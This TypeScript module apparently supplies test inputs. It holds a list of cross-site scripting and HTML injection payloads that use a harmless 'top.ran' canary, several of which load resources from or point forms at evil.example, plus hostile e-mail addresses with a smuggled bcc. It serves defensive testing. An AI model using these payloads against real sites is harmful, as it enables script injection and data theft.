/** What would run, load something from another site or lead there, were it taken for anything but text. What runs sets `ran`. */
export const payloads = [
  '<script>top.ran=1</script>',
  '"><script>top.ran=1</script>',
  "'><script>top.ran=1</script>",
  '</title><script>top.ran=1</script>',
  '</textarea><script>top.ran=1</script>',
  '</script><script>top.ran=1</script>',
  '--><script>top.ran=1</script>',
  ']]><script>top.ran=1</script>',
  '<ScRiPt/src=//evil.example/x></sCrIpT>',
  '<img src=x onerror=top.ran=1>',
  '"><img src=x onerror=top.ran=1>',
  '<img src=//evil.example/x>',
  '" onmouseover="top.ran=1',
  "' autofocus onfocus='top.ran=1",
  '` onerror=`top.ran=1',
  '<svg onload=top.ran=1>',
  '<svg/onload=top.ran=1//',
  '<svg><script>top.ran=1</script></svg>',
  '<svg><animate onbegin=top.ran=1 attributeName=x>',
  '<math><a xlink:href=javascript:top.ran=1>x</a></math>',
  '<a href=javascript:top.ran=1>x</a>',
  'javascript:top.ran=1',
  'JaVaScRiPt:top.ran=1//',
  'java\tscript:top.ran=1',
  '[x](javascript:top.ran=1)',
  '![x](//evil.example/x)',
  '<iframe src=javascript:top.ran=1>',
  '<iframe srcdoc="<script>top.ran=1</script>">',
  '<object data=javascript:top.ran=1>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x>',
  "<style>@import'//evil.example/x';*{display:none}</style>",
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><input name=x>',
  '<details open ontoggle=top.ran=1>',
  '<video><source onerror=top.ran=1></video>',
  '<noscript><p title="</noscript><img src=x onerror=top.ran=1>">',
  '\u0024{top.ran=1}',
  "{{constructor.constructor('top.ran=1')()}}",
  '\\u003cscript\\u003etop.ran=1\\u003c/script\\u003e',
  '&lt;script&gt;top.ran=1&lt;/script&gt;',
  '%3Cscript%3Etop.ran=1%3C/script%3E',
  '＜script＞top.ran=1＜/script＞',
  '\u202e<script>top.ran=1</script>\u202c',
  'data:text/html,<script>top.ran=1</script>',
  'red;background:url(//evil.example/x)',
] as const;

let next = 0;
let emails = 0;

/** Several of them, together at most `most` characters, others each time. */
export function hostileText(most: number): string {
  const fitting: string[] = [];
  for (const payload of [...payloads.slice(next), ...payloads.slice(0, next)]) {
    if ([...fitting, payload].join(' ').length <= most) fitting.push(payload);
  }
  next = (next + fitting.length) % payloads.length;
  return fitting.join(' ');
}

const mailNames = [
  'x?bcc=spy&body=x',
  '<svg/onload=top.ran=1>',
  '"><script>top.ran=1</script>',
  'javascript:top.ran=1',
  '\u0024{top.ran=1}',
  '%3Cscript%3Etop.ran=1%3C/script%3E',
] as const;

/** An e-mail address, as the forms take it for one; each is another. */
export function hostileEmail(): string {
  emails += 1;
  return `${mailNames[(emails - 1) % mailNames.length]}${emails}@evil.example`;
}
